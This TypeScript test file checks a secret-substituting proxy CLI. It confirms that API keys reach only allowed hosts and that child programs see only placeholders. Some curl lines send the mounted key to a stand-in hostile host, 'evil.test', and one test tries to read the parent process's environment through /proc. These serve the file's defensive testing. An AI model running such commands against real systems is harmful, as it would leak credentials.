/**
 * `secretgate run` as a user runs it: the CLI as a child process, on a filesystem store, running
 * curl, python3 and node against a real HTTPS server on 127.0.0.1 (names pinned with `--resolve`,
 * its test CA trusted with `--upstream-ca`). The upstream gets the value; everything the child can
 * see (its environment, the echoed response) holds only the placeholder.
 */
import { spawn, spawnSync } from "node:child_process"
import { chmodSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { fileURLToPath } from "node:url"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { startUpstream, type Upstream } from "../../undici/test/support/upstream.js"
import { BIN, cleanEnv, type Result, secretgate } from "./support/cli.js"

const VALUE = "sk-run-Zq9xV2bN7-only-upstream-sees-this"
const CA_FILE = fileURLToPath(new URL("../../undici/test/fixtures/tls/ca.pem", import.meta.url))
const has = (tool: string) => spawnSync(tool, ["--version"], { stdio: "ignore" }).status === 0
const CURL = has("curl")
const PYTHON = has("python3")

let root: string
let store: string
let upstream: Upstream
let placeholder: string

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), "secretgate-run-"))
  store = join(root, "store")
  const created = await secretgate(["secret", "create", "openai", "--host", "api.allowed.test", "--json"], { env: { SECRETGATE_STORE: store }, input: VALUE })
  expect(created.code).toBe(0)
  placeholder = (JSON.parse(created.stdout) as { placeholder: string }).placeholder
  const unused = await secretgate(["secret", "create", "unused", "--host", "api.allowed.test"], { env: { SECRETGATE_STORE: store }, input: "unused-value" })
  expect(unused.code).toBe(0)
  upstream = await startUpstream()
}, 300_000)

afterAll(async () => {
  await upstream?.close()
  rmSync(root, { recursive: true, force: true })
})

const url = (host: string, path: string) => `https://${host}:${upstream.port}${path}`

/** `secretgate run` with the test's pins and CA, and a private TMPDIR to check what it leaves. */
const run = async (
  options: ReadonlyArray<string>,
  command: ReadonlyArray<string>,
  env: Record<string, string> = {}
): Promise<Result & { readonly leftInTmp: ReadonlyArray<string> }> => {
  const tmp = mkdtempSync(join(root, "tmp-"))
  // another user (--user) must be able to reach the CA files the proxy puts under TMPDIR
  chmodSync(tmp, 0o711)
  const result = await secretgate(
    [
      "run",
      "--store", store,
      "--resolve", "api.allowed.test:127.0.0.1",
      "--resolve", "evil.test:127.0.0.1",
      "--upstream-ca", CA_FILE,
      ...options,
      "--",
      ...command
    ],
    { env: { TMPDIR: tmp, SECRETGATE_KEY: undefined as never, ...env } }
  )
  // (tsx-*: the TypeScript loader's cache, there only when the CLI runs from its sources)
  return { ...result, leftInTmp: readdirSync(tmp).filter((name) => !name.startsWith("tsx-")) }
}

const lastReceived = () => upstream.received.at(-1)!

/** The upstream received the value in its Authorization header; the program saw only the placeholder. */
const expectValueUpstreamPlaceholderBack = (result: Result) => {
  expect(result.stderr).toContain("openai: 1 substituted")
  expect(result.code).toBe(0)
  expect(lastReceived().headers["authorization"]).toBe(`Bearer ${VALUE}`)
  expect(result.stdout).toContain(`Bearer ${placeholder}`)
  expect(result.stdout).not.toContain(VALUE)
}

describe.skipIf(!CURL)("secretgate run -- curl", () => {
  it("the allowed host receives the value; curl's output (the echo) and its environment hold the placeholder", async () => {
    const before = upstream.received.length
    const result = await run(["--mount", "OPENAI_API_KEY=openai", "--mount", "UNUSED=unused"], [
      "sh", "-c", `curl -sS --fail -H "Authorization: Bearer $OPENAI_API_KEY" ${url("api.allowed.test", "/echo")} && echo && env`
    ])
    expect(result.stderr).toContain("openai: 1 substituted, 0 withheld, 0 blocked")
    expect(result.stderr).toContain("  unused: 0 substituted, 0 withheld, 0 blocked — never used\n")
    expect(result.stderr).toMatch(/^secretgate: 1 connection\(s\) through the proxy: 1 intercepted, 0 tunnelled, 0 refused$/m)
    expect(result.code).toBe(0)
    expect(upstream.received.length).toBe(before + 1)
    expect(lastReceived().headers["authorization"]).toBe(`Bearer ${VALUE}`)
    expect(result.stdout).toContain(`"authorization":"Bearer ${placeholder}"`)
    expect(result.stdout).toContain(`OPENAI_API_KEY=${placeholder}`)
    expect(result.stdout).toMatch(/^HTTPS_PROXY=http:\/\/sg:[^@]+@127\.0\.0\.1:\d+$/m)
    expect(result.stdout).toMatch(/^NO_PROXY=localhost,127\.0\.0\.1,::1$/m)
    expect(result.stdout).not.toMatch(/^SECRETGATE_/m)
    for (const text of [result.stdout, result.stderr, result.argv.join(" ")]) expect(text).not.toContain(VALUE)
    expect(result.leftInTmp).toEqual([])
  }, 300_000)

  it("a disallowed host gets the placeholder (forward), or the request is refused (block) and never arrives", async () => {
    // evil.test is tunnelled untouched: curl sees the upstream's own certificate, from the test CA
    const trustBoth = `cat "$CURL_CA_BUNDLE" ${CA_FILE} > "$TMPDIR/both.pem" && curl --cacert "$TMPDIR/both.pem"`
    const forwarded = await run(["--mount", "OPENAI_API_KEY=openai"], [
      "sh", "-c", `${trustBoth} -sS --fail -H "Authorization: Bearer $OPENAI_API_KEY" ${url("evil.test", "/echo")}; rm "$TMPDIR/both.pem"`
    ])
    expect(forwarded.code).toBe(0)
    expect(lastReceived().headers["authorization"]).toBe(`Bearer ${placeholder}`)
    // no secret may go to evil.test: the proxy passed the connection through without looking
    expect(forwarded.stderr).toMatch(/1 connection\(s\) through the proxy: 0 intercepted, 1 tunnelled/)
    expect(forwarded.stderr).toContain("openai: 0 substituted, 0 withheld, 0 blocked — never used\n")

    const before = upstream.received.length
    const blocked = await run(["--mount", "OPENAI_API_KEY=openai", "--on-disallowed", "block"], [
      "sh", "-c", `curl -sS -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $OPENAI_API_KEY" ${url("evil.test", "/echo")}`
    ])
    expect(blocked.stdout).not.toBe("200")
    expect(upstream.received.length).toBe(before)
    expect(blocked.stderr).toContain("openai: 0 substituted, 0 withheld, 1 blocked")
  }, 300_000)

  it("a private destination the user did not name is refused with 403 and the flag to allow it; --allow-private allows it", async () => {
    // localhost is not pinned with --resolve: the proxy resolves it (127.0.0.1) and refuses loopback
    const curl = `curl -sS --noproxy '' -o /dev/null -w '%{http_code}' ${url("localhost", "/echo")}`
    const before = upstream.received.length
    const refused = await run(["--mount", "OPENAI_API_KEY=openai"], ["sh", "-c", `${curl} 2>&1; true`])
    expect(refused.stdout).toMatch(/403/)
    expect(upstream.received.length).toBe(before)
    expect(refused.stderr).toMatch(/0 intercepted, 1 tunnelled, 1 refused/)
    const allowed = await run(["--mount", "OPENAI_API_KEY=openai", "--allow-private", "127.0.0.1"], [
      "sh", "-c", `cat "$CURL_CA_BUNDLE" ${CA_FILE} > "$TMPDIR/both.pem"; curl --cacert "$TMPDIR/both.pem" -sS --noproxy '' --fail -o /dev/null ${url("localhost", "/echo")}; code=$?; rm "$TMPDIR/both.pem"; exit $code`
    ])
    expect(allowed.code).toBe(0)
    expect(upstream.received.length).toBe(before + 1)
  }, 300_000)

  it("a secret without hosts: substituted anywhere with a warning under --unrestricted allow, never by default", async () => {
    const created = await secretgate(["secret", "create", "anyhost"], { env: { SECRETGATE_STORE: store }, input: VALUE })
    expect(created.code).toBe(0)
    const trustBoth = `cat "$CURL_CA_BUNDLE" ${CA_FILE} > "$TMPDIR/both.pem" && curl --cacert "$TMPDIR/both.pem"`
    const curl = `${trustBoth} -sS --fail -o /dev/null -H "Authorization: Bearer $ANY" ${url("evil.test", "/echo")}; code=$?; rm -f "$TMPDIR/both.pem"; exit $code`
    const allowed = await run(["--mount", "ANY=anyhost", "--unrestricted", "allow"], ["sh", "-c", curl])
    expect(allowed.code).toBe(0)
    expect(lastReceived().headers["authorization"]).toBe(`Bearer ${VALUE}`)
    expect(allowed.stderr).toContain("anyhost: 1 substituted, 0 withheld, 0 blocked — the secret has no hosts: its value went to every host asked for")
    const denied = await run(["--mount", "ANY=anyhost"], ["sh", "-c", curl])
    expect(denied.code).toBe(0)
    expect(lastReceived().headers["authorization"]).toMatch(/^Bearer sg_secret_/)
    expect(denied.stderr).toContain("anyhost: 0 substituted, 0 withheld, 0 blocked") // tunnelled: nothing may be substituted
    expect(denied.stderr).toMatch(/0 intercepted, 1 tunnelled/)
  }, 300_000)

  it("writes the audit events as JSON lines, without a value", async () => {
    const auditFile = join(root, "audit.jsonl")
    const result = await run(["--mount", "OPENAI_API_KEY=openai", "--audit", auditFile, "--quiet"], [
      "sh", "-c", `curl -sS --fail -o /dev/null -H "x-api-key: $OPENAI_API_KEY" ${url("api.allowed.test", "/echo")}`
    ])
    expect(result.code).toBe(0)
    expect(result.stderr).toBe("")
    const text = readFileSync(auditFile, "utf8")
    expect(text).not.toContain(VALUE)
    expect(statSync(auditFile).mode & 0o777).toBe(0o600)
    const events = text.trim().split("\n").map((line) => JSON.parse(line) as { type: string; secret?: string; host?: string })
    expect(events).toEqual(expect.arrayContaining([
      expect.objectContaining({ type: "intercepted", host: "api.allowed.test", time: expect.any(String) }),
      expect.objectContaining({
        type: "substituted",
        secret: "openai",
        host: "api.allowed.test",
        port: upstream.port,
        method: "GET",
        path: "/echo",
        surface: "header",
        unrestricted: false,
        sandbox: expect.any(String),
        time: expect.any(String)
      })
    ]))
  }, 300_000)
})

describe.skipIf(!PYTHON)("secretgate run -- python3", () => {
  it("urllib's request carries the value upstream; the program sees the placeholder", async () => {
    const script = [
      "import os, urllib.request",
      `req = urllib.request.Request("${url("api.allowed.test", "/echo")}", headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})`,
      "print(urllib.request.urlopen(req).read().decode())"
    ].join("\n")
    const result = await run(["--mount", "OPENAI_API_KEY=openai"], ["python3", "-c", script])
    expectValueUpstreamPlaceholderBack(result)
  }, 300_000)

  it("on a terminal (a pty python3 drives), Ctrl-C reaches the program once; secretgate run waits for it and exits as it does", async () => {
    const tmp = mkdtempSync(join(root, "tmp-"))
    chmodSync(tmp, 0o711)
    // the program: says when it is ready, and how often Ctrl-C reached it
    const program = `n=0; trap 'n=$((n+1))' INT; echo ready; while [ $n -eq 0 ]; do sleep 0.1; done; sleep 0.5; echo "child-got-INT $n"; exit 5`
    const driver = [
      "import os, pty, select, sys, time",
      "pid, fd = pty.fork()",
      "if pid == 0:",
      "    os.execvp(sys.argv[1], sys.argv[1:])",
      "out = b''",
      "def read(until):",
      "    global out",
      "    end = time.time() + 120",
      "    while until not in out and time.time() < end:",
      "        if select.select([fd], [], [], 0.5)[0]:",
      "            try:",
      "                chunk = os.read(fd, 4096)",
      "            except OSError:",
      "                return",
      "            if not chunk:",
      "                return",
      "            out += chunk",
      "read(b'ready')",
      "os.write(fd, b'\\x03')",
      "read(b'never printed')",
      "status = os.waitpid(pid, 0)[1]",
      "sys.stdout.write(out.decode(errors='replace'))",
      "print('exit', os.waitstatus_to_exitcode(status))"
    ].join("\n")
    const args = [BIN, "run", "--store", store, "--mount", "K=openai", "--quiet", "--", "sh", "-c", program]
    const result = spawnSync("python3", ["-c", driver, process.execPath, ...args], { env: cleanEnv({ TMPDIR: tmp }), encoding: "utf8", timeout: 200_000 })
    expect(result.stdout).toContain("child-got-INT 1")
    expect(result.stdout.trim().split("\n").at(-1)).toBe("exit 5")
    expect(readdirSync(tmp).filter((name) => !name.startsWith("tsx-"))).toEqual([])
  }, 300_000)
})

describe("secretgate run -- node", () => {
  it("Node 20's global fetch goes through the proxy (preload), carrying the value upstream", async () => {
    const script = `const r = await fetch("${url("api.allowed.test", "/echo")}", { headers: { authorization: "Bearer " + process.env.OPENAI_API_KEY } }); console.log(await r.text())`
    const result = await run(["--mount", "OPENAI_API_KEY=openai"], [process.execPath, "--input-type=module", "-e", script])
    expectValueUpstreamPlaceholderBack(result)
  }, 300_000)

  it("warns when no connection came through the proxy (a program that ignores HTTPS_PROXY)", async () => {
    const result = await run(["--mount", "OPENAI_API_KEY=openai"], ["sh", "-c", "true"])
    expect(result.stderr).toContain("openai: 0 substituted, 0 withheld, 0 blocked — never used, and no connection came through the proxy")
  }, 300_000)

  it("passes the exit code through, and 128 + n for a signal", async () => {
    expect((await run(["--mount", "K=openai", "--quiet"], ["sh", "-c", "exit 7"])).code).toBe(7)
    expect((await run(["--mount", "K=openai", "--quiet"], ["sh", "-c", "kill -TERM $$"])).code).toBe(143)
  }, 300_000)

  it("forwards SIGTERM to the child, and exits as it does", async () => {
    const tmp = mkdtempSync(join(root, "tmp-"))
  // another user (--user) must be able to reach the CA files the proxy puts under TMPDIR
  chmodSync(tmp, 0o711)
    const child = spawn(process.execPath, [BIN, "run", "--store", store, "--mount", "K=openai", "--quiet", "--", "sh", "-c", `trap 'exit 42' TERM; echo ready; while true; do sleep 0.1; done`], {
      env: cleanEnv({ TMPDIR: tmp }),
      stdio: ["ignore", "pipe", "pipe"]
    })
    await new Promise<void>((resolve, reject) => {
      child.stdout.on("data", (chunk: Buffer) => chunk.toString().includes("ready") && resolve())
      child.once("exit", (code) => reject(new Error(`exited early with ${code}`)))
    })
    child.kill("SIGTERM")
    const code = await new Promise<number | null>((resolve) => child.once("exit", (code) => resolve(code)))
    expect(code).toBe(42)
    expect(readdirSync(tmp).filter((name) => !name.startsWith("tsx-"))).toEqual([])
  }, 300_000)

  it("reports every missing secret at once (exit 3), a missing program (127, as a shell does), a reserved mount name (2), before running anything", async () => {
    const missing = await run(["--mount", "A=nope", "--mount", "B=nada", "--mount", "C=openai"], ["sh", "-c", "echo ran"])
    expect(missing.code).toBe(3)
    expect(missing.stdout).toBe("")
    expect(missing.stderr.trim()).toBe(`secretgate: secrets "nope", "nada" not found`)
    const noProgram = await run(["--mount", "K=openai", "--quiet"], ["definitely-not-a-program-secretgate"])
    expect(noProgram.code).toBe(127)
    expect(noProgram.stderr.trim()).toBe("secretgate: definitely-not-a-program-secretgate: command not found")
    const noMount = await run([], ["sh", "-c", "echo ran"])
    expect(noMount.code).toBe(2)
    const reserved = await run(["--mount", "HTTPS_PROXY=openai", "--mount", "NODE_OPTIONS=openai"], ["sh", "-c", "echo ran"])
    expect({ code: reserved.code, stdout: reserved.stdout }).toEqual({ code: 2, stdout: "" })
    expect(reserved.stderr).toContain("--mount HTTPS_PROXY, NODE_OPTIONS: the program's proxy and CA variables are not available as mount names")
  }, 300_000)
})

const ROOT_USER = process.getuid?.() === 0 && spawnSync("id", ["-u", "nobody"]).status === 0

describe.skipIf(!ROOT_USER || !CURL)("secretgate run --user", () => {
  it("the program runs as another user: it reaches the allowed host through the proxy, and cannot read secretgate's environment or the store", async () => {
    chmodSync(root, 0o711) // traversable, as /tmp is; the store directory itself stays 0700
    const result = await run(["--mount", "OPENAI_API_KEY=openai", "--user", "nobody"], [
      "sh", "-c", [
        `curl -sS --fail -H "Authorization: Bearer $OPENAI_API_KEY" ${url("api.allowed.test", "/echo")} && echo`,
        `id -u`,
        `cat /proc/$PPID/environ >/dev/null 2>&1 && echo "environ: readable" || echo "environ: refused"`,
        `ls ${store} >/dev/null 2>&1 && echo "store: readable" || echo "store: refused"`
      ].join("; ")
    ], { SECRETGATE_API_KEY: "sg_api_key_not_for_the_child" })
    expect({ code: result.code, curl: result.stderr.split("\n").filter((line) => line.startsWith("curl")) }).toEqual({ code: 0, curl: [] })
    expect(lastReceived().headers["authorization"]).toBe(`Bearer ${VALUE}`)
    expect(result.stdout).toContain(`Bearer ${placeholder}`)
    expect(result.stdout).toMatch(new RegExp(`^${spawnSync("id", ["-u", "nobody"], { encoding: "utf8" }).stdout.trim()}$`, "m"))
    expect(result.stdout).toContain("environ: refused")
    expect(result.stdout).toContain("store: refused")
    expect(result.stdout).not.toContain(VALUE)
    expect(result.stdout).not.toContain("sg_api_key_not_for_the_child")
  }, 300_000)

  it("an unknown user is refused before anything runs", async () => {
    const result = await run(["--mount", "K=openai", "--user", "no-such-user-secretgate"], ["sh", "-c", "echo ran"])
    expect({ code: result.code, stdout: result.stdout }).toEqual({ code: 2, stdout: "" })
    expect(result.stderr).toContain(`--user "no-such-user-secretgate": no such user`)
  }, 300_000)
})

